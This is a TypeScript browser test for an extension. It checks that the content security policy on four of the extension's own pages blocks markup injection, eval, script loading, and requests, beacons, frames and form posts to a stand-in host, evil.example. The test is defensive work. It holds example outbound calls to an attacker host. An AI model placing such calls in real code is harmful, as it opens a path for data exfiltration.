/** What the policy of our own pages keeps out, tried in each of them. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openOwn } from "../../scripts/drive/backstage.ts";
import { BROWSERS, openBrowser, type TestBrowser } from "./harness.ts";

const PAGES = ["popup", "dossier", "options", "welcome"].map((name) => `extension/${name}/index.html`);

/** Runs in the page: by what was tried, whether it was refused. Deferred, since what a driver runs at once is exempt from the policy. */
function tryAll(): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  const element = () => document.createElement("div");
  const throwing: Record<string, () => unknown> = {
    "markup by innerHTML": () => Object.assign(element(), { innerHTML: "<b>x</b>" }),
    "markup by outerHTML": () => Object.assign(document.body.appendChild(element()), { outerHTML: "<b>x</b>" }),
    "markup by insertAdjacentHTML": () => element().insertAdjacentHTML("beforeend", "<b>x</b>"),
    "markup by document.write": () => document.write("<b>x</b>"),
    "markup by DOMParser": () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
    "markup by a range": () => new Range().createContextualFragment("<b>x</b>"),
    // biome-ignore lint/security/noGlobalEval: it is to be refused
    "code by eval": () => globalThis.eval("1"),
    "code by Function": () => new Function("return 1")(),
    "the address of a script": () => Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }),
    "the text of a script": () => Object.assign(document.createElement("script"), { text: "window.ran = true" }),
    "a policy that would bless text": () =>
      (window as unknown as { trustedTypes: { createPolicy(...given: unknown[]): void } }).trustedTypes.createPolicy("any", {
        createHTML: String,
      }),
  };
  const refusedBy = (begin: () => void) =>
    new Promise<string>((resolve) => {
      const end = (how: string) => {
        document.removeEventListener("securitypolicyviolation", refused);
        resolve(how);
      };
      const refused = () => end("refused");
      document.addEventListener("securitypolicyviolation", refused);
      // Firefox throws where a form may not be sent.
      try {
        begin();
      } catch {
        refused();
      }
      setTimeout(end, 1000, "not refused");
    });
  const reported: Record<string, () => void> = {
    "a picture from elsewhere": () => Object.assign(new Image(), { src: "https://evil.example/x.png" }),
    "a request": () => void fetch("https://evil.example/").catch(() => undefined),
    "a beacon": () => void navigator.sendBeacon("https://evil.example/"),
    "a frame": () => void document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
    "a style element": () => void document.head.append(Object.assign(document.createElement("style"), { textContent: "a{}" })),
    "a base": () => void document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
    "a form": () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", target: "evil" });
      document.body.append(form);
      form.submit();
    },
  };
  return new Promise((resolve) => {
    setTimeout(async () => {
      for (const [what, attempt] of Object.entries(throwing)) {
        try {
          attempt();
          outcomes[what] = "not refused";
        } catch {
          outcomes[what] = "refused";
        }
      }
      for (const [what, begin] of Object.entries(reported)) outcomes[what] = await refusedBy(begin);
      resolve(outcomes);
    });
  });
}

describe.each(BROWSERS)("our own pages in %s", (name) => {
  let browser: TestBrowser;
  beforeAll(async () => {
    browser = await openBrowser(name);
  });
  afterAll(() => browser.close());

  test.each(PAGES)("%s refuses all text as markup or code, and all that is not in the package", async (path) => {
    const page = await browser.browser.newPage();
    await openOwn(browser, page, path);
    const outcomes = await page.evaluate(`(${tryAll})()`);
    await page.close().catch(() => undefined);
    expect(Object.entries(outcomes as Record<string, string>).filter(([, outcome]) => outcome !== "refused")).toEqual([]);
    expect(Object.keys(outcomes as object)).toHaveLength(18);
  });
});
